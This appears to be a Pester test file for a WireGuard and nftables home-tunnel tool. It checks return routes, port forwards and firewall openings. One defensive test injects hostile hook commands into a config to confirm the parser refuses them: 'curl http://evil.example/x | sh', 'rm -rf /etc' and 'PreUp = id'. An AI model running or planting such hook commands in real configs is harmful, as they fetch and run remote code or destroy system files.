# The home side, offline: the return route a home config gets for forwards that keep the visitor's address (and
# that the parser takes only exactly as written), and the home firewall's openings and plans.
# On real hosts: HomeFirewall.Lab.Tests.ps1.
BeforeAll {
    . $PSScriptRoot/Common.ps1
    $homePeer = New-TunnelPeer -Name home -Role Home -Address 192.168.4.2/32 -PersistentKeepalive 25
    $relayPeer = New-TunnelPeer -Name relay -Role Relay -Address 192.168.4.1/24 -ListenPort 51820 -Endpoint vps.example.test
    $keep = New-WireGuardConfig -For $homePeer -Peer $relayPeer -PreserveClientAddress
    function New-Facts([hashtable] $Files = @{}, [string[]] $Existing = @(), [string[]] $Live = @(), [bool] $Loaded = $false) {
        ConvertTo-AgentFacts NftTableFacts @{ Nft = $true; Files = $Files; Existing = $Existing; Live = $Live; TableLoaded = $Loaded; IpForward = ''; Systemd = $false; UnitEnabled = $false; Relay = $null }
    }
    function Get-Plan($Facts, $Openings, [switch] $Uninstall, [switch] $All) {
        $table = [HomeTunnel.Forwards.NftTable]::HomeFirewall
        [HomeTunnel.Forwards.NftTablePlanner]::Plan($Facts, $table, [HomeTunnel.Forwards.INftRuleFile[]]@($Openings), [HomeTunnel.Forwards.HomePortOpening]::TableText(), [bool]$Uninstall, $false, $(if ($All) { [Func[string, bool]] { param($k) [HomeTunnel.Forwards.HomeFence]::BelongsTo($k, 'wg0') } } else { $null }))
    }
    $site = $homePeer | New-ApacheProxySite -ServerName site.example.com -Port 3000
    $opening = [HomeTunnel.Forwards.HomePortOpening]::ForSite($site, [ipaddress]'192.168.4.1', 'wg0')
}

Describe 'New-WireGuardConfig -PreserveClientAddress' {
    It 'takes any source from the relay, makes no routes, and routes only the tunnel address''s replies back' {
        $keep.PreserveClientAddress | Should -BeTrue
        $keep.Text | Should -Match '(?m)^Table = off$'
        $keep.Text | Should -Match '(?m)^AllowedIPs = 192\.168\.4\.1/32, 0\.0\.0\.0/0$'
        $keep.Text | Should -Match '(?m)^PostUp = ip -4 route replace 192\.168\.4\.1/32 dev %i$'
        $keep.Text | Should -Match '(?m)^PostUp = ip -4 rule del priority 32100 2>/dev/null \|\| true; ip -4 rule add from 192\.168\.4\.2 lookup 51821 priority 32100$'
        $keep.Text | Should -Match '(?m)^PostUp = ip -4 route replace default dev %i table 51821$'
        $keep.Text | Should -Match '(?m)^PostDown = ip -4 rule del priority 32100 2>/dev/null \|\| true$'
        # Its any-source entry is not the mistake Test-TunnelConfig looks for: no route is made from it.
        @(Test-TunnelConfig $keep | Where-Object Check -EQ 'DefaultRouteThroughTunnel') | Should -HaveCount 0
        $wide = New-TunnelPeer -Name r2 -Role Relay -Address 192.168.4.1/24 -AllowedIPs 0.0.0.0/0 -ListenPort 51820 -Endpoint vps.example.test
        (Get-ErrorRecord { New-WireGuardConfig -For $homePeer -Peer $wide }).FullyQualifiedErrorId | Should -BeLike 'DefaultRouteThroughTunnel,*'
    }

    It 'is refused for a relay''s config (RoleMismatch)' {
        (Get-ErrorRecord { New-WireGuardConfig -For $relayPeer -Peer $homePeer -PreserveClientAddress }).FullyQualifiedErrorId | Should -BeLike 'RoleMismatch,*'
    }

    It 'reads its own return route back as the model, byte for byte' {
        $back = $keep.RevealText() | ConvertFrom-WireGuardConfig
        $back.PreserveClientAddress | Should -BeTrue
        $back.RevealText() | Should -BeExactly $keep.RevealText()
    }

    It 'still refuses every other hook: <Case>' -TestCases @(
        @{ Case = 'a command added to a hook'; Edit = { param($t) $t -replace '(?m)^(PostUp = ip -4 route replace default dev %i table 51821)$', '$1; curl http://evil.example/x | sh' } }
        @{ Case = 'a hook added'; Edit = { param($t) $t -replace '(?m)^(PostDown = .*)$', "`$1`nPostDown = rm -rf /etc" } }
        @{ Case = 'the hooks without Table = off'; Edit = { param($t) $t -replace '(?m)^Table = off\n', '' } }
        @{ Case = 'another address''s rule'; Edit = { param($t) $t -replace 'from 192\.168\.4\.2 lookup', 'from 10.0.0.9 lookup' } }
        @{ Case = 'a PreUp'; Edit = { param($t) $t -replace '(?m)^Table = off$', "Table = off`nPreUp = id" } }
    ) {
        $text = & $Edit $keep.RevealText()
        $text | Should -Not -BeExactly $keep.RevealText()
        (Get-ErrorRecord { $text | ConvertFrom-WireGuardConfig }).FullyQualifiedErrorId | Should -BeLike 'ConfigHookNotAllowed*'
    }
}

Describe 'New-TunnelPortForward -PreserveClientAddress' {
    It 'leaves out the masquerade, so the home side sees the visitor' {
        $f = $homePeer | New-TunnelPortForward -Protocol Tcp -PublicPort 2222 -Port 22 -PreserveClientAddress
        $f.PreserveClientAddress | Should -BeTrue
        $f.Text | Should -Match 'dnat to 192\.168\.4\.2:22'
        $f.Text | Should -Not -Match 'masquerade'
        ($homePeer | New-TunnelPortForward -Protocol Tcp -PublicPort 2222 -Port 22).Text | Should -Match 'masquerade'
    }
}

Describe 'The home firewall''s openings and plans' {
    It 'opens a site''s port to the relay, a kept-address forward''s to any source' {
        $opening.Key | Should -Be 'tcp-3000.wg0'
        $opening.Path | Should -Be '/etc/hometunnel/home.d/tcp-3000.wg0.nft'
        $opening.Text | Should -Match ([regex]::Escape('add rule inet hometunnel openings iifname "wg0" ip saddr 192.168.4.1 tcp dport 3000 accept comment "hometunnel tcp-3000.wg0"'))
        # An opening fences its interface too: it is never an opening on an unfenced tunnel.
        $opening.Text | Should -Match ([regex]::Escape('add element inet hometunnel fenced { "wg0" }'))
        $f = $homePeer | New-TunnelPortForward -Protocol Udp -PublicPort 27015-27020 -PreserveClientAddress
        $any = [HomeTunnel.Forwards.HomePortOpening]::ForForward($f, [ipaddress]'192.168.4.1')
        $any.Key | Should -Be 'udp-27015-27020.wg0'
        $any.Text | Should -Match 'iifname "wg0" udp dport 27015-27020 accept'
        $any.Text | Should -Not -Match 'saddr'
    }

    It 'drops the rest of what arrives over the tunnel, and leaves other interfaces alone' {
        $t = [HomeTunnel.Forwards.HomePortOpening]::TableText()
        $t | Should -Match '(?m)^  set fenced \{ type ifname; \}$'
        $t | Should -Match '(?m)^    iifname != @fenced accept$'
        $t | Should -Not -Match 'wg0'
        $t | Should -Match '(?m)^    ct state established,related accept$'
        $t | Should -Match '(?m)^    jump openings\n    drop$'
        $t | Should -Match 'include "/etc/hometunnel/home.d/\*\.nft"'
    }

    It 'keeps the firewall with its last opening closed, and takes it away only with -All' {
        $tablePath = [HomeTunnel.Forwards.NftTable]::HomeFirewall.TablePath
        $files = @{ $tablePath = [HomeTunnel.Forwards.HomePortOpening]::TableText(); $opening.Path = $opening.Text }
        $plan = Get-Plan (New-Facts -Files $files -Existing 'tcp-3000.wg0', 'fence.wg0' -Live 'tcp-3000.wg0', 'fence.wg0' -Loaded $true) $opening -Uninstall
        $plan.Plan.DropTable | Should -BeFalse
        $plan.Plan.Removes | Should -Be @($opening.Path)
        $plan.Plan.Reload | Should -BeTrue
        $all = Get-Plan (New-Facts -Files $files -Existing 'tcp-3000.wg0', 'fence.wg0' -Live 'tcp-3000.wg0', 'fence.wg0' -Loaded $true) @() -Uninstall -All
        $all.Plan.DropTable | Should -BeTrue
        $all.Plan.Removes | Should -Contain $opening.Path
        $all.Plan.Removes | Should -Contain $tablePath
    }

    It 'is Unchanged only when the files and the loaded table agree' {
        $tablePath = [HomeTunnel.Forwards.NftTable]::HomeFirewall.TablePath
        $files = @{ $tablePath = [HomeTunnel.Forwards.HomePortOpening]::TableText(); $opening.Path = $opening.Text }
        (Get-Plan (New-Facts -Files $files -Existing 'tcp-3000.wg0', 'fence.wg0' -Live 'tcp-3000.wg0', 'fence.wg0' -Loaded $true) $opening).Changed | Should -BeFalse
        (Get-Plan (New-Facts -Files $files -Existing 'tcp-3000.wg0' -Live @() -Loaded $false) $opening).Changed | Should -BeTrue
    }

    It 'refuses what is not a site or forward, and a site whose backend is not an address' {
        (Get-ErrorRecord { 'text' | Install-TunnelHomeFirewall -Local -RelayAddress 192.168.4.1 }).FullyQualifiedErrorId | Should -BeLike 'HomeOpeningInputInvalid,*'
        # A backend by name is refused where the site is made (BackendNotInTunnel), so no opening is ever planned for one.
        (Get-ErrorRecord { New-ApacheProxySite -ServerName a.test -Backend http://home.lan:3000/ }).FullyQualifiedErrorId | Should -BeLike 'BackendNotInTunnel,*'
        (Get-ErrorRecord { $site | Install-TunnelHomeFirewall -Local -RelayAddress example.com }).FullyQualifiedErrorId | Should -BeLike 'AddressInvalid,*'
    }
}
